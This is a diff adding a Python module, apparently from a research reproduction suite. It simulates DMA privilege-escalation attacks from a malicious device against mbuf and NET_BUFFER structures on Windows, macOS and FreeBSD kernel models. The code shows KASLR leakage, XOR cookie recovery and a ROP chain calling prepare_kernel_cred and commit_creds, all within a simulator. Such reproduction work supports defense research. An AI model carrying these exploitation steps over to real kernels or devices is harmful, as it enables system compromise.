@@ -1,0 +1,208 @@
+"""Applicability to other OSs (section 7).
+
+Three scenario models, each built on the same simulated machine:
+
+* **Windows** -- ``NdisAllocateNetBufferMdlAndData`` "allocates a
+  NET_BUFFER structure and data in a single memory buffer, exposing
+  the OS to single-step attacks" even under Kernel DMA Protection
+  (which isolates *other* allocations but cannot split this one).
+* **macOS** -- the ``mbuf`` exposes ``ext_free`` but *blinds* it with
+  an XOR cookie: the single-step overwrite fails, yet "ext_free can
+  receive only one of two possible values", so a compound attacker
+  with KASLR broken recovers the cookie with one XOR.
+* **FreeBSD** -- the ``mbuf`` exposes a raw ``ext_free``: the
+  Markettos et al. single-step attack works as-is.
+
+Each scenario returns whether the single-step attack and (where
+relevant) the compound variant succeed, feeding the E15 comparison.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import TYPE_CHECKING
+
+from repro.core.attacks.device import MaliciousDevice
+from repro.core.defenses.blinding import PointerBlinding
+from repro.cpu.exec import STOP_RIP
+from repro.errors import (ControlFlowViolation, ExecutionFault,
+                          NxViolation)
+from repro.kaslr.leak import TEXT_LOW_MASK
+from repro.mem.accounting import AllocSite
+
+if TYPE_CHECKING:
+    from repro.sim.kernel import Kernel
+
+#: mbuf-flavoured layout (shared by the macOS and FreeBSD models):
+#:   0x00  m_next        0x08  m_data (points into this mbuf!)
+#:   0x10  m_pkthdr[..]  0x48  ext_free (callback; blinded on macOS)
+#:   0x50  ext_buf       0x58  data[...]
+#: (the pkthdr scratch at 0x10..0x48 is where the pivot's
+#: rsp = rdi + 0x10 lands, so the poisoned stack fits before ext_free)
+MBUF_M_NEXT = 0x00
+MBUF_M_DATA = 0x08
+MBUF_EXT_FREE = 0x48
+MBUF_DATA_OFFSET = 0x58
+MBUF_SIZE = 0x58 + 168
+
+#: NET_BUFFER-flavoured layout (Windows model):
+#:   0x00  next_nb       0x08  current_mdl
+#:   0x10  scratch[..]   0x48  completion_handler (miniport context)
+#:   0x50  data[...]
+NB_COMPLETION = 0x48
+NB_DATA_OFFSET = 0x50
+NB_SIZE = 0x50 + 176
+
+
+@dataclass
+class OsScenarioReport:
+    os_name: str
+    single_step_escalated: bool = False
+    single_step_blocked_reason: str = ""
+    compound_escalated: bool | None = None  # None = not applicable
+    stage_log: list[str] = field(default_factory=list)
+
+
+class _MappedStructHost:
+    """Common machinery: one metadata+data buffer, DMA-mapped whole."""
+
+    def __init__(self, kernel: "Kernel", device_name: str, *,
+                 struct_size: int, callback_offset: int,
+                 data_offset: int, self_ptr_offset: int | None,
+                 blinding: PointerBlinding | None = None) -> None:
+        self.kernel = kernel
+        self.device_name = device_name
+        self.callback_offset = callback_offset
+        self.data_offset = data_offset
+        self.blinding = blinding
+        kernel.iommu.attach_device(device_name)
+        self.kva = kernel.slab.kmalloc(
+            struct_size, site=AllocSite("m_getcl", 0x31, 0xE0))
+        paddr = kernel.addr_space.paddr_of_kva(self.kva)
+        callback = kernel.symbol_address("sock_def_write_space")
+        stored = blinding.blind(callback) if blinding else callback
+        kernel.phys.write_u64(paddr + callback_offset, stored)
+        if self_ptr_offset is not None:
+            kernel.phys.write_u64(paddr + self_ptr_offset,
+                                  self.kva + data_offset)
+        self.iova = kernel.dma.dma_map_single(
+            device_name, self.kva, struct_size, "DMA_BIDIRECTIONAL",
+            site=AllocSite("bus_dmamap_load", 0x55, 0x1C0))
+
+    def complete(self):
+        """The OS completion path: load, (unblind,) indirect-call."""
+        paddr = self.kernel.addr_space.paddr_of_kva(self.kva)
+        stored = self.kernel.phys.read_u64(paddr + self.callback_offset)
+        if self.blinding is not None:
+            stored = self.blinding.unblind(stored)
+        return self.kernel.executor.invoke_callback(stored, rdi=self.kva)
+
+
+def _single_step(host: _MappedStructHost, device: MaliciousDevice,
+                 report: OsScenarioReport, *,
+                 cookie: int | None = None) -> None:
+    """Read the page, recover what's recoverable, overwrite, detonate."""
+    kernel = host.kernel
+    page_iova = host.iova & ~0xFFF
+    struct_page_off = (host.iova & 0xFFF)
+    page = device.dma_read(page_iova, 4096)
+
+    # KVA leak: m_data/self pointers on the very same page.
+    self_ptr = int.from_bytes(
+        page[struct_page_off + MBUF_M_DATA:][:8], "little")
+    stored_cb = int.from_bytes(
+        page[struct_page_off + host.callback_offset:][:8], "little")
+    # KASLR: an unblinded callback is a text leak (low-21 match).
+    if device.knowledge.text_base is None:
+        for name, offset in device.knowledge.symbol_offsets.items():
+            if (stored_cb & TEXT_LOW_MASK) == (offset & TEXT_LOW_MASK):
+                candidate = stored_cb - offset
+                if candidate % (1 << 21) == 0:
+                    device.knowledge.text_base = candidate
+                    report.stage_log.append(
+                        f"text base via leaked &{name}")
+                    break
+    if device.knowledge.text_base is None:
+        report.single_step_blocked_reason = \
+            "no text leak (callback blinded)"
+        return
+
+    know = device.knowledge
+    chain = [know.gadget_kva("pop rdi"), 0,
+             know.symbol_kva("prepare_kernel_cred"),
+             know.gadget_kva("mov rdi, rax"),
+             know.symbol_kva("commit_creds"), STOP_RIP]
+    blob = b"".join(q.to_bytes(8, "little") for q in chain)
+    # rsp = rdi + pivot_const: plant the chain at struct+pivot_const.
+    device.dma_write(page_iova + struct_page_off + know.pivot_const,
+                     blob)
+    pivot = know.gadget_kva("pivot")
+    stored = pivot ^ cookie if cookie is not None else pivot
+    device.dma_write_u64(
+        page_iova + struct_page_off + host.callback_offset, stored)
+    try:
+        host.complete()
+    except (NxViolation, ControlFlowViolation, ExecutionFault) as exc:
+        report.single_step_blocked_reason = f"kernel oops: {exc}"
+
+
+def run_windows_scenario(kernel: "Kernel",
+                         device: MaliciousDevice) -> OsScenarioReport:
+    """Kernel DMA Protection is on, but NdisAllocateNetBufferMdlAndData
+    still co-locates NET_BUFFER metadata with the data."""
+    report = OsScenarioReport("Windows (Kernel DMA Protection)")
+    host = _MappedStructHost(
+        kernel, device.device_name, struct_size=NB_SIZE,
+        callback_offset=NB_COMPLETION, data_offset=NB_DATA_OFFSET,
+        self_ptr_offset=0x08)
+    _single_step(host, device, report)
+    report.single_step_escalated = kernel.executor.creds.is_root
+    return report
+
+
+def run_freebsd_scenario(kernel: "Kernel",
+                         device: MaliciousDevice) -> OsScenarioReport:
+    """The raw mbuf ext_free: Markettos et al.'s attack verbatim."""
+    report = OsScenarioReport("FreeBSD (raw mbuf ext_free)")
+    host = _MappedStructHost(
+        kernel, device.device_name, struct_size=MBUF_SIZE,
+        callback_offset=MBUF_EXT_FREE, data_offset=MBUF_DATA_OFFSET,
+        self_ptr_offset=MBUF_M_DATA)
+    _single_step(host, device, report)
+    report.single_step_escalated = kernel.executor.creds.is_root
+    return report
+
+
+def run_macos_scenario(kernel: "Kernel", device: MaliciousDevice, *,
+                       kaslr_already_broken: bool = True
+                       ) -> OsScenarioReport:
+    """Blinded ext_free: single-step fails; the compound variant
+    recovers the cookie with one XOR once KASLR is compromised
+    ("as demonstrated in [45]")."""
+    report = OsScenarioReport("macOS (blinded mbuf ext_free)")
+    blinding = PointerBlinding(kernel.rng.child("xnu-cookie"))
+    host = _MappedStructHost(
+        kernel, device.device_name, struct_size=MBUF_SIZE,
+        callback_offset=MBUF_EXT_FREE, data_offset=MBUF_DATA_OFFSET,
+        self_ptr_offset=MBUF_M_DATA, blinding=blinding)
+
+    # single step: the blinded field leaks no text pointer, and even a
+    # raw gadget overwrite gets XOR-scrambled by the unblinding.
+    _single_step(host, device, report)
+    report.single_step_escalated = kernel.executor.creds.is_root
+    if not report.single_step_escalated and \
+            not report.single_step_blocked_reason:
+        report.single_step_blocked_reason = "callback blinded"
+
+    # compound: KASLR assumed broken (Thunderclap did this for macOS);
+    # ext_free can hold only one legitimate value -> cookie = one XOR.
+    if kaslr_already_broken and not report.single_step_escalated:
+        device.knowledge.text_base = kernel.addr_space.text_base
+        paddr = kernel.addr_space.paddr_of_kva(host.kva)
+        stored = kernel.phys.read_u64(paddr + MBUF_EXT_FREE)
+        cookie = stored ^ kernel.symbol_address("sock_def_write_space")
+        report.stage_log.append(
+            f"cookie {cookie:#018x} revealed by a single XOR")
+        _single_step(host, device, report, cookie=cookie)
+        report.compound_escalated = kernel.executor.creds.is_root
+    return report
